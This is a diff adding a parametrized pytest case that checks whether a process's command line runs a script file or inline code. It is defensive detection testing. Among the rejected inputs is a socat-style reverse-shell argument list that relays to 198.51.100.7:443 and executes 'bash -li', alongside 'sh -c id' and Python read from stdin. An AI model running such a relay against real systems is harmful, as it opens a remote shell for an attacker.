@@ -94,3 +94,23 @@ def test_a_database_that_is_being_made_serves_nobody() -> None:
     exe = "/usr/lib/postgresql/15/bin/postgres"
     assert programs.server(exe, ("postgres", "--single", "-F")) == ""
     assert programs.server(exe, ("postgres", "-D", "/data")) == "postgres"
+
+
+@pytest.mark.parametrize(
+    ("exe", "argv", "runs"),
+    [
+        ("/usr/bin/python3.11", ("python3", "/app/main.py", "--port", "80"), True),
+        ("/usr/bin/dash", ("sh", "/app/health.sh"), True),
+        ("/lib64/ld-linux-x86-64.so.2", ("ld.so", "/usr/bin/dash", "/app/health.sh"), True),
+        ("/usr/bin/dash", ("sh", "-c", "id"), False),
+        ("/usr/bin/dash", ("sh", "-s", "/app/x"), False),
+        ("/usr/bin/dash", ("sh",), False),
+        ("/usr/bin/python3.11", ("python3", "/dev/stdin"), False),
+        ("/usr/bin/python3.11", ("python3", "-m", "http.server"), False),
+        ("/opt/sh", ("sh", "TCP:198.51.100.7:443", "EXEC:bash -li"), False),
+        ("/usr/bin/nginx", ("nginx", "/etc/nginx.conf"), False),
+    ],
+)
+def test_a_script_that_is_a_file_is_told_from_code(exe: str, argv: tuple[str, ...], runs: bool) -> None:
+    """Only then a command line cannot be code; a relay under a shell's name is not believed."""
+    assert programs.runs_file(exe, argv) is runs
